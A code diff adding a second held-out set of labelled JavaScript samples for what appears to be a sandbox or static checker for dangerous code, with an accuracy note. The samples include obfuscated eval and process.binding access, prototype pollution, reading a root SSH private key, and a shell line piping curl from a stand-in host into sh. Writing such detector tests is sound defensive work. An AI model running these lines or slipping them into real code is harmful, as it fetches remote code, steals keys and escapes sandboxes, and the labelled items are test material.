@@ -90,3 +90,57 @@ HELD_OUT: Final[dict[str, list[tuple[str, tuple[str, str | None]]]]] = {
         ("const target = {}; const key = ['__', 'proto', '__'].join(''); target[key].z = 3;", FORBIDDEN),
     ],
 }
+
+
+#: A second held-out set, written after the fixes the first one prompted and measured once as written:
+#: 26/30 (86.7 %); one sample was mislabelled (its char codes spelled ``bincing``), corrected, so 26/29 on
+#: correct labels (89.7 %). The misses were generic gaps (a variable mutated inside a callback, nested
+#: array destructuring of a picked entry, a ``createRequire`` taken from a dynamic ``import('module')``),
+#: fixed by technique afterwards.
+HELD_OUT_2: Final[dict[str, list[tuple[str, tuple[str, str | None]]]]] = {
+ "builtin-tampering": [
+  ("Promise.resolve = (x) => x;", FORBIDDEN),
+  ("const o = Object; o.keys = () => [];", FORBIDDEN),
+  ("self.queueMicrotask = (f) => f();", FORBIDDEN),
+  ("Object.defineProperty(String, 'fromCharCode', { value: () => '' });", FORBIDDEN),
+  ("const target = globalThis; Reflect.set(target, 'structuredClone', (v) => v);", FORBIDDEN),
+ ],
+ "computed-names": [
+  ("const a = 'rc', b = 'ppe'; globalThis[['e','v','a','l'].join('')](a + b);", FORBIDDEN),
+  ("const x = Array.from('lave').reverse().join(''); self[x]('1');", FORBIDDEN),
+  ("const name = [2, 9, 14, 4, 9, 14, 7].map((n) => String.fromCharCode(96 + n)).join('');\n"
+   "process[name]('x');", FORBIDDEN),
+  ("let s = ''; [99,104,105,108,100,95,112,114,111,99,101,115,115].forEach((c) => {\n"
+   "  s += String.fromCharCode(c); }); require(s);", flagged("exec")),
+  ("const h = '\\x76\\x6d'; require(h).runInThisContext('1');", FORBIDDEN),
+ ],
+ "reflective-access": [
+  ("const k = Object.keys(globalThis).filter((n) => n === 'ev' + 'al')[0]; globalThis[k](c);", FORBIDDEN),
+  ("const [[, fn]] = Object.entries(globalThis).filter(([n]) => n.endsWith('val') && n.length === 4);\n"
+   "fn(c);", FORBIDDEN),
+  ("with (require('child_process')) { exec('id'); }", flagged("exec")),
+  ("const get = Reflect.get; get(process, 'bin' + 'ding')('fs');", FORBIDDEN),
+  ("const { constructor: { constructor: F } } = []; F('return 1')();", FORBIDDEN),
+ ],
+ "dynamic-module-loading": [
+  ("const r = require; const names = { a: 'child_process' }; r(names.a).exec('id');", flagged("exec")),
+  ("require(`${'v'}m`).runInNewContext('1');", FORBIDDEN),
+  ("import('/opt/elsewhere/payload.mjs');", FORBIDDEN),
+  ("const { createRequire: cr } = await import('module'); cr('/usr/local/lib/')('x');", FORBIDDEN),
+  ("const m = require('module'); m.prototype.require = function () {};", FORBIDDEN),
+ ],
+ "indirect-host-effects": [
+  ("const run = (pi) => pi.exec('/bin/sh', ['-c', 'curl -s http://x.example/k | sh -s']);", FORBIDDEN),
+  ("const code = ['console', '.log(1)'].join(''); Function(code)();", FORBIDDEN),
+  ("const fsp = require('fs/promises'); fsp.readFile('/root/.ssh/id_ed25519');", flagged("read")),
+  ("const src = require('fs').readFileSync(process.argv[2], 'utf8'); eval(src);", FORBIDDEN),
+  ("const store = {}; store.job = 'work()'; setInterval(store.job, 100);", FORBIDDEN),
+ ],
+ "prototype-pollution": [
+  ("Object.prototype['is' + 'Admin'] = true;", FORBIDDEN),
+  ("const o = {}; Object.assign(o.__proto__, { polluted: 1 });", FORBIDDEN),
+  ("const P = Object.prototype; Object.defineProperty(P, 'x', { value: 1 });", FORBIDDEN),
+  ("const s = ''; s.constructor.prototype.x = 1;", FORBIDDEN),
+  ("Function.prototype.toString = () => '';", FORBIDDEN),
+ ],
+}
